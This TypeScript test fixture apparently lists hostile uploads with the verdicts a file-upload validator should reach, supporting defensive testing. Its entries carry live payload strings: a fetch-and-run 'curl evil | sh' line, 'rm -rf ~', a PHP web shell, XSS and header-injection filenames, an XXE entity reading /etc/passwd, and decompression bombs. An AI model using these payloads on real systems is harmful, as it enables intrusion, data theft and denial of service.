import { Readable } from "node:stream";
import { gzipSync } from "node:zlib";
import sharp from "sharp";
import { MAX_FILE_BYTES } from "../contract";
import {
  compressedText,
  craftAvifNoise,
  craftCompound,
  craftCyclicTiff,
  craftGif,
  craftJpegHeader,
  craftOffice,
  craftPng,
  craftWebpHeader,
  craftZip,
} from "./crafted-bytes";

/** What must become of a file: refused at the door, or kept in this state (after the worker has looked) under this name. */
export type Verdict =
  | { readonly refused: string }
  | {
      readonly state: "READY" | "UNSUPPORTED" | "QUARANTINED";
      readonly reason?: string;
      readonly storedName?: string;
      readonly mediaType?: string;
    };

export type HostileFile = {
  readonly title: string;
  readonly name: string;
  readonly content: Buffer | (() => Buffer | Readable | Promise<Buffer>);
  readonly declaredSize?: number;
  readonly verdict: Verdict;
};

const refused = (code: string): Verdict => ({ refused: `files.${code}` });
const ready: Verdict = { state: "READY" };
const noPreview: Verdict = { state: "UNSUPPORTED", reason: "files.noPreview" };
const unsupported = (reason: string): Verdict => ({ state: "UNSUPPORTED", reason: `files.${reason}` });
const file = (title: string, name: string, content: HostileFile["content"], verdict: Verdict, declaredSize?: number): HostileFile => ({
  title,
  name,
  content: typeof content === "string" ? Buffer.from(content) : content,
  verdict,
  declaredSize,
});

const text = (content: string): Buffer => Buffer.from(content);
const PAGE = "<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>";
const DRAWING = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const ENTITIES =
  '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>';
const PROGRAM = Buffer.concat([Buffer.from("MZ"), Buffer.alloc(600, 0x90)]);
const ELF = Buffer.concat([Buffer.from("\x7fELF\x02\x01\x01", "latin1"), Buffer.alloc(600)]);
const INSTALLER = craftCompound("84100c0000000000c000000000000046");
const WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const WORD_WITH_MACROS = "application/vnd.ms-word.document.macroenabled";

const canvas = (side = 300) =>
  sharp({ create: { width: side, height: side, channels: 3, background: "#336699", noise: { type: "gaussian", mean: 128, sigma: 30 } } });
const jpeg = (): Promise<Buffer> => canvas().jpeg().toBuffer();
const png = (): Promise<Buffer> => canvas(64).png().toBuffer();

const noisyMiddle = async (): Promise<Buffer> => {
  const bytes = await jpeg();
  return Buffer.concat([bytes.subarray(0, bytes.length / 2), Buffer.alloc(2_000, 0xff), bytes.subarray(bytes.length / 2 + 2_000)]);
};
const wrongChecksum = (): Buffer => {
  const bytes = craftPng({ width: 50, height: 50 });
  bytes.writeUInt8((bytes.at(-15) ?? 0) ^ 0xff, bytes.length - 15);
  return bytes;
};
const withComment = async (): Promise<Buffer> => {
  const bytes = await jpeg();
  const comment = text(PAGE);
  const marker = Buffer.from([0xff, 0xfe, 0, comment.length + 2]);
  return Buffer.concat([bytes.subarray(0, 2), marker, comment, bytes.subarray(2)]);
};

/** A photo that says who took it and where. */
export const photoWithPlace = (): Promise<Buffer> =>
  canvas(800)
    .withExif({
      IFD0: { Make: "SecretPhone", Artist: "Hong" },
      IFD3: { GPSLatitudeRef: "N", GPSLatitude: "37/1 33/1 36/1", GPSLongitudeRef: "E", GPSLongitude: "126/1 58/1 40/1" },
    })
    .jpeg()
    .toBuffer();

const tooMany = (): Readable =>
  Readable.from(
    (function* () {
      const chunk = Buffer.alloc(1024 * 1024, 0x20);
      for (let sent = 0; sent <= MAX_FILE_BYTES; sent += chunk.length) yield chunk;
    })(),
    { objectMode: false },
  );

const disguises: readonly HostileFile[] = [
  file("a web page as a picture", "hong.png", text(PAGE), refused("contentMismatch")),
  file("a web page behind a mark as a photo", "hong.jpg", text(`\ufeff${PAGE}`), refused("contentMismatch")),
  file("a web page as a drawing", "hong.svg", text(PAGE), refused("contentMismatch")),
  file("a web page as text", "hong.txt", text(PAGE), refused("contentMismatch")),
  file("a web page as a table", "hong.csv", text(`  \n${PAGE}`), refused("contentMismatch")),
  file("a web page in UTF-16 as text", "hong.txt", Buffer.from(`\ufeff${PAGE}`, "utf16le"), refused("contentMismatch")),
  file(
    "a web page as an old spreadsheet",
    "hong.xls",
    text("<html><table><tr><td>=cmd()</td></tr></table></html>"),
    refused("contentMismatch"),
  ),
  file("a drawing with script as a picture", "logo.png", text(DRAWING), refused("contentMismatch")),
  file("a shell script as a picture", "logo.png", text("#!/bin/sh\ncurl evil | sh\n"), refused("contentMismatch")),
  file("a shell script as text", "logo.txt", text("#!/bin/sh\nrm -rf ~\n"), refused("contentMismatch")),
  file("JavaScript as a picture", "logo.gif", text("alert(1)"), refused("contentMismatch")),
  file("PHP as a photo", "logo.jpg", text("<?php system($_GET['c']); ?>"), refused("contentMismatch")),
  file("a Windows program as a document", "bill.pdf", PROGRAM, refused("contentMismatch")),
  file("a Linux program as an archive", "bill.zip", ELF, refused("contentMismatch")),
  file("an installer as an old document", "bill.doc", INSTALLER, refused("contentMismatch")),
  file("a Java archive as an archive", "bill.zip", craftZip({ "META-INF/MANIFEST.MF": "Main-Class: X" }), refused("contentMismatch")),
  file(
    "an Android program as an archive",
    "bill.zip",
    craftZip({ "AndroidManifest.xml": "x", "classes.dex": "x" }),
    refused("contentMismatch"),
  ),
  file("a PDF as a document", "bill.docx", text("%PDF-1.7\n%\xe2\xe3\n1 0 obj<<>>endobj"), refused("contentMismatch")),
  file("an archive as a document", "bill.docx", craftZip({ "readme.txt": "hello" }), refused("contentMismatch")),
  file("macros as a document without", "bill.docx", craftOffice(WORD_WITH_MACROS), refused("contentMismatch")),
  file("PostScript as a PDF", "bill.pdf", text("%!PS-Adobe-3.0\n(x) run"), refused("contentMismatch")),
  file("an icon as a picture", "bill.png", Buffer.from("00000100010010100000010020006804000016000000", "hex"), refused("contentMismatch")),
  file("a NUL in a text", "bill.txt", text("a\0b"), refused("contentMismatch")),
  file("a picture's signature and nothing else", "bill.png", Buffer.from("89504e470d0a1a0a", "hex"), refused("contentMismatch")),
];

const forbiddenTypes: readonly HostileFile[] = [
  file("a web page", "hong.html", text(PAGE), refused("typeNotAllowed")),
  file("a web page in XML", "hong.xhtml", text(PAGE), refused("typeNotAllowed")),
  file("JavaScript", "hong.js", text("alert(1)"), refused("typeNotAllowed")),
  file("a program", "hong.exe", PROGRAM, refused("typeNotAllowed")),
  file("a batch file", "hong.bat", text("format c:"), refused("typeNotAllowed")),
  file("a shortcut", "hong.lnk", Buffer.from("4c0000000114020000000000c000000000000046", "hex"), refused("typeNotAllowed")),
  file("an installer", "hong.msi", INSTALLER, refused("typeNotAllowed")),
  file("a Java archive", "hong.jar", craftZip({ "META-INF/MANIFEST.MF": "x" }), refused("typeNotAllowed")),
  file("no extension", "hong", png, refused("typeNotAllowed")),
  file("a program behind a picture's extension", "hong.png.exe", png, refused("typeNotAllowed")),
  file("a program read backwards", "hong\u202egnp.exe", png, refused("typeNotAllowed")),
  file("a program behind dots and spaces", "hong.exe. . ", png, refused("typeNotAllowed")),
  file("a program behind a NUL", "hong.png\0.exe", png, refused("typeNotAllowed")),
  file("a stream of a file system", "hong.txt::$DATA", text("x"), refused("typeNotAllowed")),
  file("a system file", "/etc/passwd", text("root:x:0:0"), refused("typeNotAllowed")),
];

const named = (storedName: string): Verdict => ({ state: "READY", storedName });
const names: readonly HostileFile[] = [
  file("only dots", "..", text("x"), refused("nameInvalid")),
  file("only invisible characters", "\u200b\u202e\0", text("x"), refused("nameInvalid")),
  file("decomposed Hangul with a path", "../../보고서.txt".normalize("NFD"), text("보고"), named("보고서.txt")),
  file("a Windows path", "C:\\Windows\\..\\회의록.txt", text("회의"), named("회의록.txt")),
  file("markup in the name", "<img src=x onerror=alert(1)>.txt", text("1"), named("_img src=x onerror=alert(1)_.txt")),
  file("a header in the name", "a\r\nSet-Cookie: sid=1.txt", text("2"), named("aSet-Cookie_ sid=1.txt")),
  file("a device's name", "CON.txt", text("3"), named("_CON.txt")),
  file("a name without end", `${"가".repeat(2_000)}.txt`, text("4"), named(`${"가".repeat(176)}.txt`)),
];

const sizes: readonly HostileFile[] = [
  file("nothing", "empty.png", Buffer.alloc(0), refused("emptyFile")),
  file("nothing, and says so", "empty.txt", Buffer.alloc(0), refused("emptyFile"), 0),
  file("too large, and says so", "huge.txt", text("x"), refused("tooLarge"), MAX_FILE_BYTES + 1),
  file("too large without saying so", "huge.txt", tooMany, refused("tooLarge")),
  file("an archive that unpacks to a gigabyte", "bomb.gz", () => gzipSync(Buffer.alloc(64 * 1024 * 1024), { level: 9 }), ready),
  file("an archive within an archive", "bomb.zip", () => craftZip({ "a.zip": craftZip({ "b.bin": Buffer.alloc(1_000) }) }), ready),
];

const pictures: readonly HostileFile[] = [
  file(
    "3,600 megapixels in a few bytes",
    "bomb.png",
    () => craftPng({ width: 60_000, height: 60_000, rows: 20 }),
    unsupported("imageTooLarge"),
  ),
  file("one pixel row too many", "large.png", () => craftPng({ width: 8_000, height: 8_001, rows: 1 }), unsupported("imageTooLarge")),
  file(
    "a GIF of 900 megapixels",
    "bomb.gif",
    craftGif({ width: 30_000, height: 30_000, frames: 1, frameSide: 30_000 }),
    unsupported("imageTooLarge"),
  ),
  // The decoder trusts the frames, not the canvas: what is made is one pixel.
  file("a GIF whose canvas is a lie", "canvas.gif", craftGif({ width: 65_535, height: 65_535, frames: 1 }), ready),
  file("a JPEG of 4,290 megapixels", "bomb.jpg", craftJpegHeader(65_500, 65_500), unsupported("imageTooLarge")),
  file("a WebP whose canvas is a lie", "bomb.webp", craftWebpHeader(16_384, 16_384), unsupported("imageUnreadable")),
  file("pixels that are missing", "short.png", () => craftPng({ width: 7_000, height: 7_000, rows: 1 }), unsupported("imageUnreadable")),
  file(
    "a text chunk that unpacks to 256 MB",
    "chunk.png",
    () => craftPng({ width: 9, height: 9, extra: [["zTXt", compressedText(256 * 1024 * 1024)]] }),
    ready,
  ),
  file("61 frames", "moving.gif", craftGif({ width: 8, height: 8, frames: 61 }), unsupported("imageTooManyFrames")),
  file("10,000 frames", "moving.gif", craftGif({ width: 8, height: 8, frames: 10_000 }), unsupported("imageTooManyFrames")),
  file("half a photo", "half.jpg", async () => (await jpeg()).subarray(0, 4_000), unsupported("imageUnreadable")),
  file("a photo with noise in it", "noise.jpg", noisyMiddle, unsupported("imageUnreadable")),
  file("a wrong checksum", "sum.png", wrongChecksum, unsupported("imageUnreadable")),
  file("a TIFF that leads back to itself", "cycle.tif", craftCyclicTiff(), unsupported("imageUnreadable")),
  file("noise that calls itself AVIF", "noise.avif", craftAvifNoise(), unsupported("imageUnreadable")),
  file("a GIF that is JavaScript", "poly.gif", text("GIF89a/*\0\0\0*/=1;alert(document.domain);//"), unsupported("imageUnreadable")),
  file(
    "a GIF with JavaScript behind it",
    "poly.gif",
    () => Buffer.concat([craftGif({ width: 1, height: 1, frames: 1 }), text(";alert(1)")]),
    ready,
  ),
  file("a picture with a page behind it", "poly.png", async () => Buffer.concat([await png(), text(PAGE)]), ready),
  file("a photo with a page as its comment", "poly.jpg", withComment, ready),
  file("a picture under another picture's extension", "really-png.jpg", png, { state: "READY", mediaType: "image/png" }),
  file("a photo that says where it was taken", "place.jpg", photoWithPlace, ready),
  file("a drawing with script", "drawing.svg", text(DRAWING), noPreview),
  file("a drawing that reads files", "drawing.svg", text(ENTITIES), noPreview),
];

const documents: readonly HostileFile[] = [
  file("a PDF with script", "form.pdf", text("%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"), ready),
  file("a document that is one", "plain.docx", craftOffice(WORD), ready),
];

/** Each with what must become of it; see security.md on uploads. */
export const HOSTILE_FILES: readonly HostileFile[] = [...disguises, ...forbiddenTypes, ...names, ...sizes, ...pictures, ...documents];
